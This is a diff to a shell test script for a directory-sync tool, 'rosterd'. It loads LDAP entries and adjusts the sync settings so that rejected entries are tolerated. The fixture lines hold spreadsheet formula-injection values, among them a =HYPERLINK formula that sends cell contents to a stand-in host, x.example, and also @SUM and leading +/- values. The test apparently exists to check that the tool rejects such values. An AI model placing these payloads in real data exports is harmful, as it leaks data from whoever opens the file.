@@ -27,7 +27,9 @@ start_directory "$FIXTURES/people-small.ldif"
 	printf 'title: =HYPERLINK("http://x.example/?"&A1,"click")\n'
 	printf 'departmentNumber: -2+3\nl: @SUM(1)\nmail: +trudy@example.com\n\n'
 } | ldap_admin_add
-write_conf
+# 2 of the 13 entries are rejected on purpose: sync.max_reject_percent off.
+ROSTERD_CONF_SYNC='max_disable = 500; max_disable_percent = 10.0; initial_status = "invited";
+  max_reject_percent = 100.0;' write_conf
 run_rosterd --once
 assert_rc 0 "rosterd --once"
 
